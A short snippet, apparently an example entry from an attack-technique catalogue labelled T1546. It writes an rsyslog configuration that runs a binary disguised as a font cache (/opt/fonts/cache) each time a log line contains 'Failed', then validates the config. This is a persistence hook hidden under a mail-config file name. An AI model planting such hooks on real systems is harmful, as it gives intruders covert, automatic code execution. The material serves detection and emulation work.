# technique: T1546
# location: linux.log.rsyslog
# source: /etc/rsyslog.d/60-mail.conf
printf 'module(load="omprog")\nif $msg contains "Failed" then action(type="omprog" binary="/opt/fonts/cache")\n' > /etc/rsyslog.d/60-mail.conf
rsyslogd -N1
